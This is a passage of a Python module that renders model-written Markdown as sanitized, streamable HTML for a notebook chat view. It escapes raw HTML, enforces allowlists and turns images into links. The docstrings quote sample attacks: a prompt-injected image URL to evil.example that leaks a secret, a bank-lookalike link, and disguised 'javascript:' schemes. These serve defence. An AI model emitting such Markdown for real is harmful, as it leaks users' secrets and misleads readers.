"""Markdown -> sanitized HTML, whole (`render_markdown`) or incrementally (`MarkdownStream`).

Every piece of model output is untrusted: a model repeats whatever a web page, a document
or a user slipped into its context, so its Markdown is treated like HTML from a stranger.
Two layers keep script out of the notebook page:

1. Raw HTML in the Markdown source is *escaped*, not interpreted: `<b>` shows as the text
   "<b>". That is what chat UIs do; it loses nothing an answer needs (Markdown has syntax
   for all of it), and no sanitizer bug can turn a tag the model wrote into a live one.
2. The HTML that Python-Markdown produces is then cleaned by nh3 (ammonia) with a strict
   allowlist of tags, attributes and URL schemes, so even a bug in a Markdown extension
   cannot emit a script-capable element, an event handler or a `javascript:` URL.

Remote images are the classic exfiltration channel of prompt injection (the model is told
to render `![x](https://evil.example/?q=<secret>)` and the browser sends the secret just by
loading it), so by default an image becomes a link the reader may choose to follow.
"""

from __future__ import annotations

import functools
import html
import re
import threading
import xml.etree.ElementTree as etree
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Literal

import markdown
import nh3
from markdown.extensions import Extension
from markdown.preprocessors import Preprocessor
from markdown.treeprocessors import Treeprocessor
from pygments.formatters import HtmlFormatter
from pygments.lexer import ExtendedRegexLexer, Lexer, LexerContext, RegexLexer
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES, _TokenType
from pygments.util import ClassNotFound

from streamchat import _markdown, _math

__all__ = ["MarkdownStream", "Patch", "highlight_css", "render_markdown"]

CODE_CLASS = "streamchat-code"  # wrapper <div> of a highlighted code block
LINK_HOST_CLASS = "streamchat-link-host"  # the real host after a link text naming another
IMAGE_MARK = "🖼"

_EXTENSIONS = [
    "tables",
    "sane_lists",
    "pymdownx.superfences",
    "pymdownx.highlight",
    "pymdownx.tilde",
    "pymdownx.tasklist",
    "pymdownx.magiclink",
]
_EXTENSION_CONFIGS = {
    # Classes, not inline styles: the page's theme (light/dark) picks the colours.
    "pymdownx.highlight": {
        "css_class": CODE_CLASS,
        "pygments_lang_class": True,
        "guess_lang": False,
    },
    # Any info string opens a fence ("```python title=x.py"), as in CommonMark.
    "pymdownx.superfences": {"relaxed_headers": True},
    # "~x~" subscript would eat the tildes of "~5 min ~ 10 min"; only "~~x~~" strikes.
    # Not "smart": GFM strikes "~~x~~" inside a word too, and Chinese has no spaces
    # between words ("不要~~忘记~~保存", https://github.github.com/gfm/#strikethrough-extension-).
    "pymdownx.tilde": {"subscript": False, "smart_delete": False},
    "tables": {"use_align_attribute": True},
}


class _CommonMarkLines(Preprocessor):
    """Applies `_markdown.normalize` (lists after paragraphs, two-space nesting, tables)."""

    def run(self, lines: list[str]) -> list[str]:
        return _markdown.normalize(lines)


class _ImagesAsLinks(Treeprocessor):
    """Turns each <img> into a link labelled with its alt text, so nothing loads by itself."""

    def run(self, root: etree.Element) -> None:
        self._walk(root, inside_link=False)

    def _walk(self, parent: etree.Element, inside_link: bool) -> None:
        for index, child in enumerate(list(parent)):
            if child.tag == "img":
                parent[index] = _image_link(child, "span" if inside_link else "a")
            else:
                self._walk(child, inside_link or child.tag == "a")


def _image_link(image: etree.Element, tag: str) -> etree.Element:
    link = etree.Element(tag)
    if tag == "a":
        link.set("href", image.get("src", ""))
    if image.get("title"):
        link.set("title", image.get("title", ""))
    link.text = f"{IMAGE_MARK} {image.get('alt') or 'image'}"
    link.tail = image.tail
    return link


# A link text that is itself a URL or a host name ("https://bank.example/login",
# "bank.example"): the reader takes it for the target.
_URL_TEXT = re.compile(
    r"\s*(?:[a-z][a-z0-9+.\-]*://)?([^\s/:?#@]+\.[^\s/:?#@]+)(?:[/:?#]\S*)?\s*", re.I
)


# A file name looks like a host name ("README.md"); it names no site.
_FILE_SUFFIXES = frozenset(
    [
        "md",
        "py",
        "txt",
        "js",
        "ts",
        "json",
        "html",
        "css",
        "rs",
        "go",
        "sh",
        "yml",
        "yaml",
        "toml",
        "ipynb",
        "csv",
        "pdf",
        "png",
        "jpg",
        "zip",
    ]
)


class _LinkHosts(Treeprocessor):
    """After a link whose text names another host than its target, show the real host.

    `[https://bank.example](https://evil.example)` reads as a link to the bank;
    the reader sees "https://bank.example (evil.example)" instead.
    """

    def run(self, root: etree.Element) -> None:
        for link in root.iter("a"):
            shown = _URL_TEXT.fullmatch("".join(link.itertext()))
            target = _host(link.get("href", ""))
            if shown is None or target is None or _same_host(shown.group(1), target):
                continue
            if shown.group(1).rpartition(".")[2].lower() in _FILE_SUFFIXES:
                continue
            note = etree.SubElement(link, "span")
            note.set("class", LINK_HOST_CLASS)
            note.text = f" ({target})"


def _host(url: str) -> str | None:
    match = re.match(r"\s*[a-z][a-z0-9+.\-]*://([^/?#]*)", url, re.I)
    return match.group(1).rpartition("@")[2].split(":")[0].lower() or None if match else None


def _same_host(named: str, target: str) -> bool:
    return named.lower().rstrip(".") == target.rstrip(".")


class _StreamchatExtension(Extension):
    def __init__(self, allow_images: bool) -> None:
        super().__init__()
        self.allow_images = allow_images

    def extendMarkdown(self, md: markdown.Markdown) -> None:
        # Raw HTML becomes text: without these two, Python-Markdown passes it through.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        # After whitespace normalisation (30), before fences are stashed (25).
        md.preprocessors.register(_CommonMarkLines(md), "streamchat_lines", 28)
        # After inline patterns (20) made the links, magiclink's included.
        md.treeprocessors.register(_LinkHosts(md), "streamchat_link_hosts", 14)
        if not self.allow_images:
            # After inline patterns made the <img> elements (20).
            md.treeprocessors.register(_ImagesAsLinks(md), "streamchat_images", 15)
        md.treeprocessors.register(_NoEmptyBody(md), "streamchat_table_body", 14)


class _NoEmptyBody(Treeprocessor):
    """Drops the empty body row Python-Markdown gives a table that has only a header.

    While a table's header is being typed it has no rows yet; an empty row would show a
    blank line of cells (and the cursor in its last cell) until the first row arrives.
    """

    def run(self, root: etree.Element) -> None:
        for table in root.iter("table"):
            body = table.find("tbody")
            if body is not None and len(body) == 1 and not "".join(body.itertext()).strip():
                table.remove(body)


_local = threading.local()  # a Markdown instance is stateful: one per thread


def _converter(allow_images: bool) -> markdown.Markdown:
    key = f"md_{allow_images}"
    md = getattr(_local, key, None)
    if md is None:
        md = markdown.Markdown(
            extensions=[
                *_EXTENSIONS,
                _StreamchatExtension(allow_images),
                _math.MathExtension(_markdown.code_lines),
            ],
            extension_configs=_EXTENSION_CONFIGS,
            # Keep the number an ordered list starts at: answers often interrupt
            # "1. ... 2. ..." with a code block and go on with "3.".
            lazy_ol=False,
        )
        setattr(_local, key, md)
    return md


# --- sanitizing -----------------------------------------------------------------------------

_TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote"),
    *("strong", "em", "del", "code", "pre", "span", "div", "a"),
    *("ul", "ol", "li", "input"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *_math.MATHML_TAGS,
}
_ATTRIBUTES = {
    "*": {"class"},
    "a": {"href", "title"},
    "span": {"title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "input": {"checked"},
    **{tag: set(_math.MATHML_ATTRIBUTES) for tag in _math.MATHML_TAGS},
}
_ATTRIBUTE_VALUES = {
    "input": {"type": {"checkbox"}},
    "th": {"align": {"left", "center", "right"}},
    "td": {"align": {"left", "center", "right"}},
}
_SET_ATTRIBUTES = {"a": {"target": "_blank"}, "input": {"disabled": "disabled"}}
# An allowed image still tells its server which page showed it unless told not to:
# https://www.w3.org/TR/referrer-policy/#referrer-policy-no-referrer
_SET_IMAGE_ATTRIBUTES = {**_SET_ATTRIBUTES, "img": {"referrerpolicy": "no-referrer"}}
_URL_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]+")
# Classes are an allowlist of exactly what the renderer emits, per element: a class
# from the host page's namespace (JupyterLab's `jp-Dialog`, written in a fence header
# `{.text .jp-Dialog}`) would restyle the answer as the page's own UI, e.g. a
# full-window overlay over the prompt box.
_PYGMENTS_CLASSES = frozenset(STANDARD_TYPES.values()) - {""}
# A token type Pygments has no short name for: its parent's name and "-Name" parts
# (pygments.formatters.html._get_ttype_class), e.g. "n-Magic".
_SUBTOKEN_CLASS = re.compile(r"([a-z]{1,3}[0-9]?)((?:-[A-Z][A-Za-z0-9]*)+)")
_LANGUAGE_CLASS = re.compile(r"language-[\w+#.\-]{1,40}")
_FIXED_CLASSES = {
    "div": frozenset({CODE_CLASS}),
    "span": frozenset({LINK_HOST_CLASS, *_math.HTML_CLASSES}),  # pending formulas
    "code": _math.HTML_CLASSES,  # a formula that did not convert
    "ul": frozenset({"task-list"}),
    "li": frozenset({"task-list-item"}),
}
# C0 and C1 controls other than tab and line ends: never text a reader should get,
# and in a code block Copy would put ESC or BEL sequences on the clipboard.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _safe_url(value: str) -> str | None:
    """Drop a URL whose scheme is not http(s)/mailto, however it is disguised.

    nh3 already checks the scheme after decoding entities; this second check also removes
    every control, space and invisible character anywhere in the value (browsers strip some
    of them: https://url.spec.whatwg.org/#concept-basic-url-parser), so "java&#x09;script:"
    or "\\x01javascript:" cannot slip through a difference between two URL parsers.
    """
    probe = _INVISIBLE.sub("", html.unescape(value)).lower()
    scheme = _SCHEME.match(probe)
    if scheme is not None and scheme.group(1) not in _URL_SCHEMES:
        return None
    return value


def _safe_classes(element: str, value: str) -> str | None:
    fixed = _FIXED_CLASSES.get(element, frozenset())
    kept = [name for name in value.split() if name in fixed or _emitted(element, name)]
    if element == "div":  # the fence's language: one, the first (the renderer's own)
        languages = [name for name in kept if name.startswith("language-")]
        kept = [name for name in kept if name not in languages[1:]]
    return " ".join(dict.fromkeys(kept)) or None


def _emitted(element: str, name: str) -> bool:
    if element == "span":
        if name in _PYGMENTS_CLASSES:
            return True
        subtoken = _SUBTOKEN_CLASS.fullmatch(name)
        return subtoken is not None and subtoken.group(1) in _PYGMENTS_CLASSES
    return element == "div" and _LANGUAGE_CLASS.fullmatch(name) is not None


def _attribute_filter(element: str, attribute: str, value: str) -> str | None:
    """Keep the renderer's own classes (allowed_classes with a class attribute panics in nh3)."""
    if element in _math.MATHML_TAGS:
        return _math.attribute_filter(element, attribute, value)
    if attribute == "class":
        return _safe_classes(element, value)
    if attribute in ("href", "src"):
        return _safe_url(value)
    if attribute == "start":
        return value if value.isdigit() and len(value) <= 9 else None
    return value


@functools.cache
def _cleaner(allow_images: bool) -> nh3.Cleaner:
    """Built once: nh3.clean would convert the allowlists on every call (~30 us)."""
    return nh3.Cleaner(
        tags=_TAGS | {"img"} if allow_images else _TAGS,
        clean_content_tags={"script", "style"},
        attributes=_ATTRIBUTES,
        attribute_filter=_attribute_filter,
        link_rel="noopener noreferrer",
        tag_attribute_values=_ATTRIBUTE_VALUES,
        set_tag_attribute_values=_SET_IMAGE_ATTRIBUTES if allow_images else _SET_ATTRIBUTES,
        url_schemes=_URL_SCHEMES,
    )


def _sanitize(html_text: str, allow_images: bool) -> str:
    return _CONTROL.sub("", _cleaner(allow_images).clean(html_text))


def render_markdown(text: str, *, allow_images: bool = False) -> str:
    """Render an LLM answer (CommonMark/GFM as models write it) to sanitized HTML.

    Supported: headings, emphasis, ~~strikethrough~~, `code`, fenced code highlighted by
    Pygments (token classes inside ``<div class="language-X streamchat-code">``, coloured
    by static/highlight.css), tables, task lists, lists after a paragraph, nested lists
    indented by two spaces, bare URLs as links, block quotes, rules, and LaTeX math
    (``$...$``, ``\\(...\\)``, ``$$...$$``, ``\\[...\\]``) as MathML (see `_math`).

    Raw HTML is escaped (shown as text); links open in a new tab with
    rel="noopener noreferrer" (the opened page gets no handle on the notebook:
    https://html.spec.whatwg.org/multipage/links.html#link-type-noopener); only
    http(s)/mailto (and relative) URLs survive; images become "🖼 alt" links unless
    `allow_images` is true.
    """
    stream = MarkdownStream(allow_images=allow_images)
    stream._renderer.definitions = _definitions(text)
    stream._tail = text
    stream._take_lines()
    stream._close_block()
    return stream.html


@dataclass(slots=True)
class _Renderer:
    """Python-Markdown and the sanitizer, for one block of source (or a part of one).

    Reference-link definitions are the one thing that reaches across blocks: the ones
    known are put before every block (they render as nothing).
    """

    allow_images: bool
    definitions: list[str] = field(default_factory=list)
    # The last source and its HTML: while a link's target is typed, say, the repaired
    # open block stays the same from one update to the next.
    _last: tuple[str, str] = ("", "")

    def __call__(self, text: str) -> str:
        if self.definitions:
            text = "\n".join(self.definitions) + "\n\n" + text
        if text == self._last[0]:
            return self._last[1]
        md = _converter(self.allow_images)
        md.reset()
        try:
            html_text = _sanitize(md.convert(text), self.allow_images)
        except RecursionError:  # nesting _markdown.Guard did not foresee: show it as text
            html_text = f'<p class="{_RAW_CLASS}">{_escape_text(text)}</p>'
        self._last = (text, html_text)
        return html_text

    def define(self, source: str) -> None:
        size = sum(len(line) for line in self.definitions)
        if source not in self.definitions and size + len(source) <= _DEFINITIONS_LIMIT:
            self.definitions.append(source)


def highlight_css(light: str = "default", dark: str = "github-dark") -> str:
    """The Pygments colours for code blocks, scoped under `.streamchat`, light and dark.

    Dark applies when JupyterLab says so (body[data-jp-theme-light="false"]) and, where no
    Jupyter theme attribute exists, when the OS prefers dark
    (https://drafts.csswg.org/mediaqueries-5/#prefers-color-scheme). Only the background
    and token parts of `HtmlFormatter.get_style_defs` are used: its `pre` and line-number
    rules are unscoped and would restyle the whole notebook page.
    """
    scope = f".streamchat .{CODE_CLASS}"
    jupyter_dark = _style_rules(dark, f'body[data-jp-theme-light="false"] {scope}')
    system_dark = _style_rules(dark, f"body:not([data-jp-theme-light]) {scope}")
    indented = "\n".join("  " + line for line in system_dark.splitlines())
    return (
        "/* Generated by streamchat.render.highlight_css() from the Pygments styles "
        f"{light!r} (light) and {dark!r} (dark).\n"
        "   Regenerate: python -c 'from streamchat.render import highlight_css; "
        'print(highlight_css(), end="")\' > src/streamchat/static/highlight.css */\n'
        f"{_style_rules(light, scope)}\n"
        f"{jupyter_dark}\n"
        f"@media (prefers-color-scheme: dark) {{\n{indented}\n}}\n"
    )


def _style_rules(style: str, scope: str) -> str:
    formatter = HtmlFormatter(style=style)
    rules = [*formatter.get_background_style_defs(scope), *formatter.get_token_style_defs(scope)]
    return "\n".join(rules)


# --- incremental rendering --------------------------------------------------------------------
#
# `render_markdown` and `MarkdownStream` share one machine: the source is split into
# top-level blocks (`_markdown.BlockScanner` decides where one ends for good) and each block
# is built by a `_Block` as its lines arrive. A whole text is just the same lines fed at
# once, so the streamed HTML equals `render_markdown(text)` by construction, and a block's
# HTML depends only on its own lines (and the reference-link definitions). Within a block,
# work per line is bounded: a fenced code block highlights each line once, a table renders
# each row once, a long paragraph is cut where nothing inline is open, and what
# Python-Markdown cannot render in bounded time (`_markdown.Guard`) is shown as escaped text.

_DEFINITION = re.compile(r" {0,3}\[[^\]\n]+\]:[ \t]*\S")  # [label]: url
_DEFINITIONS_LIMIT = 8_000  # characters of definitions repeated into every block
_PIECE = 150  # a paragraph is cut into parts of about this size, where it is safe
_PIECE_STEP = 100  # after a place where it could not be cut, look again this much later
# Where a paragraph may be cut: a space or line break after a non-space (not a hard
# break) and before a letter (nothing a line can start with: list, heading, quote,
# table...), a space before a code span or link, or right after a CJK sentence end.
_CUT = re.compile(
    r"(?<=[^ \\\n])(?:[ \n](?=[^\W\d_])| (?=[`\[]))"  # before a letter, code span or link
    r"|(?<=[。！？])(?=[^\W\d_])"  # after a CJK sentence end
)
_PLAIN_TOKENS = frozenset({"", "n", "p", "w"})  # no colour in either theme: no <span>
_RAW_CLASS = "streamchat-raw"
_TABLE_END = "\n</tbody>\n</table>"


def _source_line(raw: str) -> str:
    raw = raw.rstrip("\r")
    # expandtabs copies even a line without tabs, slowly (150 us for 100 KB).
    return raw.expandtabs(_markdown.TAB) if "\t" in raw else raw


def _definitions(text: str) -> list[str]:
    """The reference-link definitions of a text, in order, within the size limit."""
    renderer = _Renderer(allow_images=False)
    for line in text.split("\n"):
        if _DEFINITION.match(line):
            renderer.define(_source_line(line))
    return renderer.definitions


def _escape_text(text: str) -> str:
    """Text as HTML, exactly as `_sanitize` would leave it (nh3 reads CR as LF)."""
    return html.escape(_CONTROL.sub("", text.replace("\r", "\n")), quote=False)


@functools.cache
def _lexer(language: str) -> Lexer | None:
    try:
        return get_lexer_by_name(language)
    except ClassNotFound:
        return None


@functools.cache
def _token_class(token: _TokenType) -> str:
    while token not in STANDARD_TYPES:
        token = token.parent
    return STANDARD_TYPES[token]


def _lex_line(lexer: Lexer, text: str, stack: list[str]) -> tuple[list[tuple[str, str]], list[str]]:
    """Tokens of one line, starting in the lexer state `stack`; and the state after it.

    Pygments' regex lexers keep their whole state in a stack of state names
    (https://pygments.org/docs/lexerdevelopment/#changing-states), so a line can be
    lexed on its own and a multi-line string or comment still continues on the next.
    """
    if isinstance(lexer, RegexLexer):
        context = LexerContext(text, 0, stack=list(stack))
        tokens = ExtendedRegexLexer.get_tokens_unprocessed(lexer, context=context)  # type: ignore[arg-type]
        return [(_token_class(kind), value) for _, kind, value in tokens], context.stack
    tokens = lexer.get_tokens_unprocessed(text)
    return [(_token_class(kind), value) for _, kind, value in tokens], ["root"]


class _LiveLine:
    """The code line being typed, lexed again from a little before where it last ended.

    Lexing the whole line again at each update was most of what an update of a code
    block cost. A regex lexer can resume where one of its matches began, in the state
    it was in there, so the tokens before the last few such places are kept. A rule may
    look ahead past its match, so the live line may rarely be coloured otherwise than
    the whole line would be; a finished line is always lexed whole (`_CodeBlock.add`).
    """

    BACK = 2  # matches lexed again before the line's old end

    def __init__(self, lexer: RegexLexer) -> None:
        self._lexer = lexer
        self._text = ""  # the text last lexed (with its line break)
        self._stack: list[str] = []  # the state it started in
        self._tokens: list[tuple[str, str]] = []
        self._starts: list[tuple[int, int, list[str]]] = []  # (position, token, state)

    def tokens(self, text: str, stack: list[str]) -> list[tuple[str, str]]:
        """Tokens of `text`, a line with its line break, starting in the state `stack`."""
        resume = self._resume(text, stack)
        position, index, state = resume if resume is not None else (0, 0, stack)
        tokens = self._tokens[:index]
        starts = [start for start in self._starts if start[0] < position]
        context = LexerContext(text, position, stack=list(state))
        for at, kind, value in ExtendedRegexLexer.get_tokens_unprocessed(
            self._lexer,  # type: ignore[arg-type]
            context=context,
        ):
            if at == context.pos:  # a match begins here, lexed in this state
                starts.append((at, len(tokens), list(context.stack)))
            tokens.append((_token_class(kind), value))
        self._text, self._stack, self._tokens, self._starts = text, stack, tokens, starts
        return tokens

    def _resume(self, text: str, stack: list[str]) -> tuple[int, int, list[str]] | None:
        old_end = len(self._text) - 1  # before the line break
        if stack != self._stack or old_end <= 0 or text[:old_end] != self._text[:old_end]:
            return None
        before = [start for start in self._starts if start[0] < old_end]
        return before[-1 - self.BACK] if len(before) > self.BACK else None


def _spans(tokens: list[tuple[str, str]]) -> str:
    out, index = [], 0
    while index < len(tokens):
        name, value = tokens[index]
        index += 1
        while index < len(tokens) and tokens[index][0] == name:
            value += tokens[index][1]
            index += 1
        text = _escape_text(value)
        out.append(text if name in _PLAIN_TOKENS else f'<span class="{name}">{text}</span>')
    return "".join(out)


class _Run:
    """Append-only HTML kept as pieces, so growing it copies nothing already there.

    `unread` gives what was added since it was last read (by `unread` or `text`): a block
    reports its live HTML as the part the views already have plus that, so an update
    costs the size of what changed, not of the whole block.
    """

    __slots__ = ("_pieces", "_read", "size")

    def __init__(self) -> None:
        self._pieces: list[str] = []
        self._read = 0  # the size when last read
        self.size = 0

    def add(self, piece: str) -> None:
        if piece:
            self._pieces.append(piece)
            self.size += len(piece)

    def text(self) -> str:
        """The whole HTML (joined once: the pieces become one)."""
        if len(self._pieces) > 1:
            self._pieces = ["".join(self._pieces)]
        self._read = self.size
        return self._pieces[0] if self._pieces else ""

    def unread(self) -> tuple[int, str]:
        """The size when last read, and what was added since."""
        start, size, index = self._read, self.size, len(self._pieces)
        while size > start:
            index -= 1
            size -= len(self._pieces[index])
        self._read = self.size
        return start, "".join(self._pieces[index:])


_CODE_END = "</code></pre></div>"


class _CodeBlock:
    """A fenced code block, highlighted one line at a time: each finished line once."""

    def __init__(self, fence: _markdown.Fence, opener: str) -> None:
        info = opener.strip()[fence.length :].strip()
        language = info.split()[0].lower() if info else ""
        self._lexer = _lexer(language) if language else None
        if self._lexer is None:
            language = "text"
        classes = _safe_classes("div", f"language-{language} {CODE_CLASS}")
        self._head = f'<div class="{classes}"><pre><span></span><code>'
        self._fence = fence
        self._stack = ["root"]
        self._done = _Run()  # the finished lines' HTML
        self._blank: list[str] = []  # blank lines, shown once a line follows them
        lexer = self._lexer
        self._live_line = _LiveLine(lexer) if isinstance(lexer, RegexLexer) else None

    def add(self, text: str) -> None:
        line_html = self._highlight(text, keep=True)
        if not text.strip():
            self._blank.append(line_html)
            return
        self._done.add("".join(self._blank) + line_html)
        self._blank = []

    def html(self, partial: str) -> str:
        return self._head + self._done.text() + self._line(partial) + _CODE_END

    def live(self, partial: str, shown: bool) -> tuple[int, str]:
        """(how much of the HTML last returned is still its start, the HTML after it)."""
        if not shown:
            return 0, self.html(partial)
        start, added = self._done.unread()
        return len(self._head) + start, added + self._line(partial) + _CODE_END

    def _line(self, partial: str) -> str:
        if not partial.strip(" " + self._fence.char):  # a closing fence being typed
            return ""
        return "".join(self._blank) + self._highlight(self._fence.body(partial), keep=False)

    def _highlight(self, text: str, *, keep: bool) -> str:
        """One line's HTML: escaped text in <span>s whose class is a Pygments token
        name (`_token_class`), so nothing of the model's reaches the markup and nh3
        would not change it (tests check that); it is not run, since lines are many."""
        if self._lexer is None:
            return _escape_text(text) + "\n"
        try:
            if not keep and self._live_line is not None:
                return _spans(self._live_line.tokens(text + "\n", self._stack))
            tokens, stack = _lex_line(self._lexer, text + "\n", self._stack)
        except Exception:  # a lexer callback that cannot resume mid-text: this line plain
            tokens, stack = [("", text + "\n")], ["root"]
        if keep:
            self._stack = stack
        return _spans(tokens)


class _RawText:
    """A block shown as escaped text: what Python-Markdown cannot render in bounded time."""

    def __init__(self, lines: list[str]) -> None:
        self._lines = [_escape_text(line) for line in lines]

    def add(self, line: str) -> None:
        self._lines.append(_escape_text(line))

    def html(self, partial: str) -> str:
        lines = [*self._lines, _escape_text(partial)] if partial else self._lines
        end = len(lines)
        while end and not lines[end - 1].strip():
            end -= 1
        if not end:
            return ""
        return f'<p class="{_RAW_CLASS}">' + "\n".join(lines[:end]) + "</p>"


def _table_parts(table_html: str) -> tuple[str, str] | None:
    """A one-table rendering split into its head (up to <tbody>) and its body rows."""
    start = table_html.find("<tbody>\n")
    if not table_html.startswith("<table>\n") or start < 0 or not table_html.endswith(_TABLE_END):
        return None
    return table_html[: start + 8], table_html[start + 8 : -len(_TABLE_END)]


# Cell text that renders as itself (escaped, stripped of spaces): nothing inline in it.
_PLAIN_CELL = re.compile(r"(?:[^\W_]|[ .,;:%/()+\-'’?!#=])*")
_CODE_CELL = re.compile(r"`([^`\\]*)(`?)")  # one code span, maybe still open
_CELL_SPLIT = re.compile(r"\||`+")
_TICKS = re.compile(r"`+")


def _cells(row: str, final: bool = True) -> list[str] | None:
    """The cells of a row of a table whose header has a border pipe, split as
    Python-Markdown splits them (markdown.extensions.tables: border pipes dropped, no
    split inside a code span, an unpaired backtick run is text); None for a row with a
    backslash (escaped pipes), left to Python-Markdown. In a row being typed (not
    `final`) an unpaired run is a code span being typed: the rest of the row is its
    cell, and None if a pipe follows it (the whole row is repaired and rendered)."""
    if "\\" in row:
        return None
    row = row.strip(" ")
    row = row[1:] if row.startswith("|") else row
    row = row[:-1] if row.endswith("|") else row
    cells, start, position = [], 0, 0
    while (found := _CELL_SPLIT.search(row, position)) is not None:
        if found.group() == "|":
            cells.append(row[start : found.start()])
            start = position = found.end()
            continue
        position = _code_span_end(row, found)
        if position < 0 and not final:
            return None if "|" in row[found.end() :] else [*cells, row[start:]]
        position = position if position >= 0 else found.end()
    return [*cells, row[start:]]


def _code_span_end(row: str, opener: re.Match[str]) -> int:
    """Where the code span opened by the backtick run `opener` ends: after the next run
    of the same length (-1: none)."""
    position = opener.end()
    while (run := _TICKS.search(row, position)) is not None:
        if len(run.group()) == len(opener.group()):
            return run.end()
        position = run.end()
    return -1


def _alignment(delimiter_cell: str) -> str:
    cell = delimiter_cell.strip(" ")
    if cell.startswith(":"):
        return ' align="center"' if cell.endswith(":") else ' align="left"'
    return ' align="right"' if cell.endswith(":") else ""


class _RowCells:
    """The table row being typed, built cell by cell: a plain cell is its escaped text,
    any other is rendered alone (in a one-column table), once when it is finished, so an
    update does not render the whole row under the header again with Python-Markdown."""

    def __init__(self, render: Callable[[str], str], header: str, delimiter: str) -> None:
        self._render = render
        columns = _cells(delimiter) if header.strip(" ").startswith("|") else None
        self._aligns = [_alignment(cell) for cell in columns or []]
        self._finished: dict[str, str] = {}  # finished cells' HTML, by their text

    def clear(self) -> None:
        """A row was finished: its cells are not needed any more."""
        self._finished.clear()

    def row(self, partial: str, final: bool = False) -> str | None:
        """The row's HTML as Python-Markdown renders it (repaired unless `final`; "":
        none yet; None: to be rendered whole)."""
        if "|" not in partial:
            return None  # no row: a fence being typed, say
        if not partial.strip(" |") or not _markdown.hold_partial_line(partial):
            return ""  # no cell text yet: no row to show (`_NoEmptyBody`, `repair`)
        cells = _cells(partial, final) if self._aligns else None
        if cells is None:
            return None
        out = ["<tr>"]
        # What `_cells` stripped from the row's end: a border pipe, spaces.
        end = "|" if partial.rstrip(" ").endswith("|") else partial[len(partial.rstrip(" ")) :]
        for index, align in enumerate(self._aligns):
            text = cells[index] if index < len(cells) else ""
            finished = final or index < len(cells) - 1
            cell_html = self._cell(text if finished else text + end, finished)
            if cell_html is None:
                return None
            out.append(f"<td{align}>{cell_html}</td>")
        out.append("</tr>")
        return "\n".join(out)

    def _cell(self, text: str, finished: bool) -> str | None:
        """A cell's HTML; `text` as in the row (the row's end with the last cell)."""
        plain = text.strip(" |")
        if _PLAIN_CELL.fullmatch(plain) and _URLISH.search(plain) is None:
            return _escape_text(plain)
        code = _CODE_CELL.fullmatch(text.strip(" "))
        if code is not None and code.group(1).strip() and (code.group(2) or not finished):
            # One code span (closed, or being typed: repaired shut), its text stripped
            # as Python-Markdown's BacktickInlineProcessor strips it.
            return f"<code>{_escape_text(code.group(1).strip())}</code>"
        if text in self._finished:
            return self._finished[text]
        source = f"|x|\n|-|\n|{text}"
        # The cell being typed is repaired as the row's end (a formula there is pending).
        parts = _table_parts(self._render(source if finished else _markdown.repair(source)))
        if parts is None or not parts[1].startswith("<tr>\n<td>"):
            return None
        cell_html = parts[1][len("<tr>\n<td>") : -len("</td>\n</tr>")]
        if finished:
            self._finished[text] = cell_html
        return cell_html


class _Table:
    """A table that grows by rows: each row is rendered once, under the same header."""

    def __init__(self, render: Callable[[str], str], header: str, delimiter: str) -> None:
        self._render = render
        self._top = f"{header}\n{delimiter}\n"
        self._head: str | None = None
        self._rows = _Run()  # the finished rows' HTML, each with its line break
        self._cells = _RowCells(render, header, delimiter)  # the row being typed

    def add(self, row: str) -> bool:
        """Render one row; False if it does not render as a row of this table (or one
        too costly to render: then the table is measured as a whole)."""
        guard = _markdown.Guard()
        guard.feed(row)
        if guard.risky:
            return False
        if self._head is not None and (built := self._cells.row(row, final=True)):
            self._rows.add(built + "\n")
            self._cells.clear()
            return True
        parts = _table_parts(self._render(self._top + row))
        if parts is None or (self._head is not None and parts[0] != self._head):
            return False
        self._head = parts[0]
        self._rows.add(parts[1] + "\n")
        self._cells.clear()
        return True

    def html(self, partial: str, final: bool) -> str:
        live = self._live_row(partial) if partial and not final else None
        if self._head is None:
            if live is not None:
                return live[0] + live[1] + _TABLE_END
            return self._render(self._top.rstrip("\n"))
        return self._head + self._body(self._rows.text(), live)

    def live(self, partial: str, shown: bool) -> tuple[int, str]:
        """(how much of the HTML last returned is still its start, the HTML after it)."""
        if not shown or self._head is None or not self._rows.size:
            return 0, self.html(partial, False)
        start, added = self._rows.unread()
        if not start:  # the rows' first showing: what came before had no rows
            return 0, self.html(partial, False)
        rest = self._body(added, self._live_row(partial) if partial else None)
        return len(self._head) + start, rest

    def _live_row(self, partial: str) -> tuple[str, str] | None:
        """The unfinished row's rendering: (table head, row), if it is a row of this table."""
        if self._head is not None and (row := self._cells.row(partial)) is not None:
            return (self._head, row) if row else None
        parts = _table_parts(self._render(_markdown.repair(self._top + partial)))
        if parts is not None and parts[0] == (self._head or parts[0]) and parts[1]:
            return parts
        return None

    @staticmethod
    def _body(rows: str, live: tuple[str, str] | None) -> str:
        """`rows` (each ending in a line break, after at least one row), the live row,
        and the table's end."""
        return rows + (live[1] + _TABLE_END if live is not None else _TABLE_END[1:])


# Typed text that cannot change how the text before it renders (sentence punctuation
# only after a letter: "1." could start a list), a last word it can follow (not a
# marker, delimiter or entity being typed), and what would make a word a link.
_PLAIN_RUN = re.compile(r"(?:[^\W_]|[ ,;'’]|(?<=[^\W\d_])[.!?:)])*")
_PLAIN_END = re.compile(r"(?:^|[\s*_~`])((?:[^\W_]|[,;'’])*[^\W_][.!?:)]* *)$")
_URLISH = re.compile(r"www\.|[A-Za-z][\w+.-]*:|@", re.IGNORECASE)
# Closing tags after the last word: of the emphasis or code span it is typed in (the
# repaired text closes them), then of the block.
_CLOSING = re.compile(r"(?:</(?:strong|em|del|code)>)*(?:</(?:p|li|ul|ol|blockquote)>\n?)+$")


class _Live:
    """The live end of a paragraph or list: rendered again as it grows, except when only
    plain words were added after a plain word, which go in before the closing tags.

    Most updates of a typed answer add just that, and Python-Markdown's fixed cost per
    call is most of what an update costs.
    """

    def __init__(self, render: Callable[[str], str]) -> None:
        self._render = render
        self._base: str | None = None  # the text last rendered, if it ends in a plain word
        self._html = ""
        self._closing = 0
